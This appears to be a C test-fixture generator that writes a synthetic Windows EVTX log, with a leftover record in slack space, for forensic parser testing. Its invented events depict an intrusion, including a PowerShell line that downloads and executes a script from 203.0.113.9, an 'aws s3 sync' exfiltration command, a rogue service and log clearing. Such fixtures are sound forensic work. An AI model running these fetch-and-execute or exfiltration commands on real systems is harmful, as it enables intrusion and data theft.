/*
 * Makes a small Windows event log of invented events: evtx_make FILE [whole]
 *
 * One chunk; `whole`: with all its 64 KiB, as Windows has it and libevtx wants
 * it, else it ends after the last record. Behind its records lies an older
 * one, as a cleared log leaves it.
 */
#include <stdio.h>
#include <stdlib.h>
#include <zlib.h>

#include "base/varint.h"

enum {
    HEAD = 4096,
    CHUNK = 65536,
    CHUNK_HEAD = 512,
    FIELDS = 12,
    VALUES = 16,
};

static unsigned char chunk[CHUNK];
static size_t at; /* in the chunk */

/* ---- bytes --------------------------------------------------------------- */

static void put(const void *p, size_t n)
{
    if (n > CHUNK - at)
        exit(1);
    memcpy(chunk + at, p, n);
    at += n;
}

static void put8(unsigned v)
{
    unsigned char c = (unsigned char)v;
    put(&c, 1);
}

static void put16(unsigned v)
{
    put8(v);
    put8(v >> 8);
}

static void put32(uint32_t v)
{
    put16(v);
    put16(v >> 16);
}

static void put64(uint64_t v)
{
    put32((uint32_t)v);
    put32((uint32_t)(v >> 32));
}

static void patch32(size_t place, size_t v)
{
    put_u32le(chunk + place, (uint32_t)v);
}

static void put_utf16(const char *s)
{
    for (; *s; s++)
        put16((unsigned char)*s);
}

/* ---- tokens -------------------------------------------------------------- */

/* Names stand where they are used for the first time; here always. */
static void put_name(const char *s)
{
    unsigned hash = 0;
    for (const char *c = s; *c; c++)
        hash = hash * 65599 + (unsigned char)*c;
    put32((uint32_t)at + 4);
    put32(0);
    put16(hash);
    put16((unsigned)strlen(s));
    put_utf16(s);
    put16(0);
}

struct element {
    size_t size, attributes;
};

static struct element open(const char *name, bool attributes)
{
    struct element e;
    put8(attributes ? 0x41 : 0x01);
    put16(0xffff);
    e.size = at;
    put32(0);
    put_name(name);
    e.attributes = at;
    if (attributes)
        put32(0);
    return e;
}

static void end_start(const struct element *e, bool attributes)
{
    if (attributes)
        patch32(e->attributes, at - e->attributes - 4);
    put8(0x02);
}

static void end(const struct element *e)
{
    put8(0x04);
    patch32(e->size, at - e->size - 4);
}

static void end_empty(const struct element *e)
{
    patch32(e->attributes, at - e->attributes - 4);
    put8(0x03);
    patch32(e->size, at - e->size - 4);
}

static void literal(const char *s)
{
    put8(0x05);
    put8(0x01);
    put16((unsigned)strlen(s));
    put_utf16(s);
}

static void substitution(unsigned i, unsigned type)
{
    put8(0x0e);
    put16(i);
    put8(type);
}

static void value_element(const char *name, unsigned i, unsigned type)
{
    struct element e = open(name, false);
    end_start(&e, false);
    substitution(i, type);
    end(&e);
}

static void attribute_element(const char *name, const char *attribute,
                              unsigned i, unsigned type)
{
    struct element e = open(name, true);
    put8(0x06);
    put_name(attribute);
    substitution(i, type);
    end_empty(&e);
}

/* Values of a template being put together. */
static struct value {
    size_t n;
    unsigned type;
    unsigned char bytes[4096];
} values[VALUES];

static void put_values(unsigned n)
{
    put32(n);
    for (unsigned i = 0; i < n; i++) {
        put16((unsigned)values[i].n);
        put8(values[i].type);
        put8(0);
    }
    for (unsigned i = 0; i < n; i++)
        put(values[i].bytes, values[i].n);
}

static void set(unsigned i, unsigned type, const void *p, size_t n)
{
    values[i].type = type;
    values[i].n = n;
    memcpy(values[i].bytes, p, n);
}

static void set_text(unsigned i, const char *s)
{
    values[i].type = 0x01;
    values[i].n = 0;
    for (; *s; s++) {
        values[i].bytes[values[i].n++] = (unsigned char)*s;
        values[i].bytes[values[i].n++] = 0;
    }
}

static void set_number(unsigned i, unsigned type, uint64_t v, size_t n)
{
    unsigned char b[8];
    put_u64le(b, v);
    set(i, type, b, n);
}

/* ---- events -------------------------------------------------------------- */

struct event {
    const char *provider;
    unsigned id, level;
    unsigned minutes; /* after 2026-03-11T02:00Z */
    const char *channel;
    bool user_data; /* elements of LogFileCleared instead of Data */
    const char *field[FIELDS][2];
};

static const struct event events[] = {
    { "EventLog", 6005, 4, 0, "System", false, { { "", "" } } },
    { "Microsoft-Windows-Security-Auditing",
      4625,
      0,
      10,
      "Security",
      false,
      { { "TargetUserName", "administrator" },
        { "TargetDomainName", "APP-02" },
        { "Status", "0xc000006d" },
        { "SubStatus", "0xc000006a" },
        { "LogonType", "3" },
        { "WorkstationName", "kali" },
        { "IpAddress", "198.51.100.66" },
        { "IpPort", "50122" } } },
    { "Microsoft-Windows-Security-Auditing",
      4624,
      0,
      13,
      "Security",
      false,
      { { "SubjectUserName", "APP-02$" },
        { "TargetUserSid", "S-1-5-21-1004336348-1177238915-682003330-1001" },
        { "TargetUserName", "alice" },
        { "TargetDomainName", "APP-02" },
        { "TargetLogonId", "0x3f1a2" },
        { "LogonType", "10" },
        { "IpAddress", "198.51.100.66" },
        { "ProcessName", "C:\\Windows\\System32\\svchost.exe" } } },
    { "Microsoft-Windows-Security-Auditing",
      4688,
      0,
      14,
      "Security",
      false,
      { { "SubjectUserName", "alice" },
        { "NewProcessName", "C:\\Windows\\System32\\cmd.exe" },
        { "CommandLine",
          "cmd /c aws s3 sync s3://corp-reports-111122223333 C:\\Temp "
          "--profile AKIASVCBACKUPEXAMPLE" },
        { "ParentProcessName", "C:\\Windows\\explorer.exe" } } },
    { "Service Control Manager",
      7045,
      4,
      20,
      "System",
      false,
      { { "ServiceName", "sysupd" },
        { "ImagePath", "C:\\ProgramData\\sysupd.exe -k" },
        { "ServiceType", "user mode service" },
        { "StartType", "auto start" },
        { "AccountName", "LocalSystem" } } },
    { "Service Control Manager",
      7036,
      4,
      20,
      "System",
      false,
      { { "param1", "sysupd" }, { "param2", "running" } } },
    { "Microsoft-Windows-Security-Auditing",
      4720,
      0,
      30,
      "Security",
      false,
      { { "TargetUserName", "svc-backup" },
        { "TargetDomainName", "APP-02" },
        { "SubjectUserName", "alice" } } },
    { "Microsoft-Windows-PowerShell",
      4104,
      3,
      40,
      "Microsoft-Windows-PowerShell/Operational",
      false,
      { { "MessageNumber", "1" },
        { "MessageTotal", "1" },
        { "ScriptBlockText",
          "Invoke-WebRequest http://203.0.113.9/a.ps1 | iex" },
        { "ScriptBlockId", "11111111-2222-3333-4444-555555555555" },
        { "Path", "" } } },
    { "Microsoft-Windows-Sysmon",
      3,
      4,
      41,
      "Microsoft-Windows-Sysmon/Operational",
      false,
      { { "User", "APP-02\\alice" },
        { "Image", "C:\\ProgramData\\sysupd.exe" },
        { "DestinationIp", "203.0.113.9" },
        { "DestinationPort", "443" } } },
    { "Example-Provider",
      77,
      2,
      42,
      "Application",
      false,
      { { "", "a & b" }, { "", "<c>" } } },
    { "Microsoft-Windows-Eventlog",
      1102,
      4,
      50,
      "Security",
      true,
      { { "SubjectUserName", "alice" },
        { "SubjectDomainName", "APP-02" },
        { "SubjectLogonId", "0x3f1a2" } } },
};
static const struct event older = { "Microsoft-Windows-Security-Auditing",
                                    4634,
                                    0,
                                    5,
                                    "Security",
                                    false,
                                    { { "TargetUserName", "svc-backup" },
                                      { "LogonType", "3" } } };

static unsigned fields_of(const struct event *e)
{
    unsigned n = 0;
    while (n < FIELDS && e->field[n][0])
        n++;
    return n;
}

/* The fields: a fragment with a template of its own. */
static void put_fields(const struct event *e)
{
    unsigned n = fields_of(e);
    static const unsigned char head[] = { 0x0f, 1, 1, 0 };
    put(head, 4);
    put8(0x0c);
    put8(1);
    put32(e->id);
    put32((uint32_t)at + 4);
    put32(0);
    put64(e->id);
    put64(e->minutes);
    size_t size = at;
    put32(0);
    put(head, 4);
    struct element group = open(e->user_data ? "UserData" : "EventData", false);
    end_start(&group, false);
    struct element inner = { 0 };
    if (e->user_data) {
        inner = open("LogFileCleared", false);
        end_start(&inner, false);
    }
    for (unsigned i = 0; i < n; i++) {
        bool named = !e->user_data && e->field[i][0][0];
        struct element d = open(e->user_data ? e->field[i][0] : "Data", named);
        if (named) {
            put8(0x06);
            put_name("Name");
            literal(e->field[i][0]);
        }
        end_start(&d, named);
        put8(0x0d);
        put16(i);
        put8(0x01);
        end(&d);
        set_text(i, e->field[i][1]);
    }
    if (e->user_data)
        end(&inner);
    end(&group);
    put8(0x00);
    patch32(size, at - size - 4);
    put_values(n);
}

static size_t shared; /* the template of System, once it is there */

static void put_template(void)
{
    static const unsigned char head[] = { 0x0f, 1, 1, 0 };
    put32(0);
    put64(0x1122334455667788u);
    put64(0x99aabbccddeeff00u);
    size_t size = at;
    put32(0);
    put(head, 4);
    struct element event = open("Event", true);
    put8(0x06);
    put_name("xmlns");
    literal("http://schemas.microsoft.com/win/2004/08/events/event");
    end_start(&event, true);
    struct element group = open("System", false);
    end_start(&group, false);
    attribute_element("Provider", "Name", 0, 0x01);
    value_element("EventID", 1, 0x06);
    value_element("Level", 2, 0x04);
    value_element("Keywords", 3, 0x15);
    attribute_element("TimeCreated", "SystemTime", 4, 0x11);
    value_element("EventRecordID", 5, 0x0a);
    value_element("Channel", 6, 0x01);
    value_element("Computer", 7, 0x01);
    attribute_element("Security", "UserID", 8, 0x13);
    end(&group);
    substitution(9, 0x21);
    end(&event);
    put8(0x00);
    patch32(size, at - size - 4);
}

static void put_record(const struct event *e, uint64_t id)
{
    static const unsigned char head[] = { 0x0f, 1, 1, 0 };
    static const unsigned char sid[] = { 1, 1, 0, 0, 0, 0, 0, 5, 18, 0, 0, 0 };
    static unsigned char fields[CHUNK];
    /* 2026-03-11T02:00:00Z */
    uint64_t time = (UINT64_C(11644473600) + 1773194400) * 10000000 +
                    (uint64_t)e->minutes * 600000000 + 1234567;
    size_t from = at;
    put32(0x2a2a);
    put32(0);
    put64(id);
    put64(time);
    put(head, 4);
    put8(0x0c);
    put8(1);
    put32(7);
    size_t definition = at;
    put32(0);
    if (shared) {
        patch32(definition, shared);
    } else {
        patch32(definition, at);
        shared = at;
        put_template();
    }
    set_text(0, e->provider);
    set_number(1, 0x06, e->id, 2);
    set_number(2, 0x04, e->level, 1);
    set_number(3, 0x15, UINT64_C(0x8020000000000000), 8);
    set_number(4, 0x11, time, 8);
    set_number(5, 0x0a, id, 8);
    set_text(6, e->channel);
    set_text(7, "APP-02");
    set(8, e->level ? 0x13 : 0x00, sid, e->level ? sizeof sid : 0);
    struct value kept[9];
    memcpy(kept, values, sizeof kept);
    /* the fields must know their place: after ten descriptors and nine values
     * */
    size_t before = at, start = at + 4 + 10 * 4;
    for (unsigned i = 0; i < 9; i++)
        start += kept[i].n;
    at = start;
    put_fields(e);
    size_t n = at - start;
    memcpy(fields, chunk + start, n);
    at = before;
    memcpy(values, kept, sizeof kept);
    put32(10);
    for (unsigned i = 0; i < 9; i++) {
        put16((unsigned)kept[i].n);
        put16(kept[i].type);
    }
    put16((unsigned)n);
    put16(0x21);
    for (unsigned i = 0; i < 9; i++)
        put(kept[i].bytes, kept[i].n);
    put(fields, n);
    put8(0x00);
    while ((at - from) % 8 != 4)
        put8(0);
    put32((uint32_t)(at - from) + 4);
    patch32(from + 4, at - from);
}

/* ---- the file ------------------------------------------------------------ */

static void chunk_head(uint64_t n, size_t last, size_t free_at)
{
    memcpy(chunk, "ElfChnk", 8);
    put_u64le(chunk + 8, 1);
    put_u64le(chunk + 16, n);
    put_u64le(chunk + 24, 1);
    put_u64le(chunk + 32, n);
    put_u32le(chunk + 40, 128);
    put_u32le(chunk + 44, (uint32_t)last);
    put_u32le(chunk + 48, (uint32_t)free_at);
    put_u32le(chunk + 52, (uint32_t)crc32(0, chunk + CHUNK_HEAD,
                                          (unsigned)(free_at - CHUNK_HEAD)));
    put_u32le(chunk + 124, (uint32_t)crc32(crc32(0, chunk, 120), chunk + 128,
                                           CHUNK_HEAD - 128));
}

static void file_head(unsigned char head[HEAD], uint64_t n)
{
    memset(head, 0, HEAD);
    memcpy(head, "ElfFile", 8);
    put_u64le(head + 24, n + 1);
    put_u32le(head + 32, 128);
    put_u32le(head + 36, 1 | 3 << 16);
    put_u32le(head + 40, HEAD | 1 << 16);
    put_u32le(head + 124, (uint32_t)crc32(0, head, 120));
}

int main(int argc, char **argv)
{
    static unsigned char head[HEAD];
    size_t n = sizeof events / sizeof *events, last = 0;
    if (argc < 2)
        return 1;
    at = CHUNK_HEAD;
    for (size_t i = 0; i < n; i++) {
        last = at;
        put_record(&events[i], i + 1);
    }
    size_t free_at = at;
    shared = 0;
    put_record(&older, 4711);
    size_t whole = argc > 2 ? CHUNK : at;
    chunk_head(n, last, free_at);
    file_head(head, n);
    FILE *f = fopen(argv[1], "wb");
    bool ok = f && fwrite(head, 1, HEAD, f) == HEAD &&
              fwrite(chunk, 1, whole, f) == whole;
    if (f)
        ok &= fclose(f) == 0;
    return ok ? 0 : 1;
}
